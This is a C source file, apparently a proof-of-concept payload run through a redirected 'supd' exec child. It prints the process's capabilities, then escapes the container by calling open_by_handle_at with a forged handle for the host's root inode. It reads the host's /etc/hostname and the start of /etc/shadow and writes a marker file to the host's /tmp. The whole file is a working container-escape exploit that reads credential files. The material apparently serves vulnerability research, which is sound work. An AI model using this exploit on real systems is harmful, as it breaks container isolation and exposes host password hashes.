/* Run by a process of supd's that the hunter redirected: shows its privileges, then uses
 * them to reach the host's root filesystem (open_by_handle_at on the ext4 filesystem that
 * holds the container's /etc/hosts bind mount, root inode 2) and write a file there. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(void) {
    int log = open("/pwn.log", O_WRONLY | O_CREAT | O_APPEND, 0644);
    dup2(log, 1); dup2(log, 2);
    char buf[8192];
    int fd = open("/proc/self/status", O_RDONLY);
    ssize_t n = read(fd, buf, sizeof buf - 1);
    buf[n > 0 ? n : 0] = 0;
    for (char *l = strtok(buf, "\n"); l; l = strtok(0, "\n"))
        if (!strncmp(l, "Cap", 3) || !strncmp(l, "Seccomp", 7) || !strncmp(l, "NoNewPrivs", 10) || !strncmp(l, "Uid", 3))
            printf("pwn: %s\n", l);
    struct { unsigned int bytes; int type; unsigned int ino, gen; } h = {8, 1, 2, 0};
    int mnt = open("/etc/hosts", O_RDONLY);
    int root = open_by_handle_at(mnt, (void *)&h, O_RDONLY | O_DIRECTORY);
    if (root < 0) { perror("pwn: open_by_handle_at"); return 1; }
    int f = openat(root, "etc/hostname", O_RDONLY);
    n = read(f, buf, sizeof buf - 1); buf[n > 0 ? n : 0] = 0;
    printf("pwn: host /etc/hostname: %s", buf);
    f = openat(root, "etc/shadow", O_RDONLY);
    n = read(f, buf, 64); buf[n > 0 ? n : 0] = 0;
    printf("pwn: host /etc/shadow starts: %.40s...\n", buf);
    f = openat(root, "tmp/supd-attack-PWNED", O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (f < 0) { perror("pwn: create on host"); return 1; }
    dprintf(f, "written from inside a container through supd's exec child, uid %d\n", getuid());
    printf("pwn: wrote /tmp/supd-attack-PWNED on the host\n");
    return 0;
}
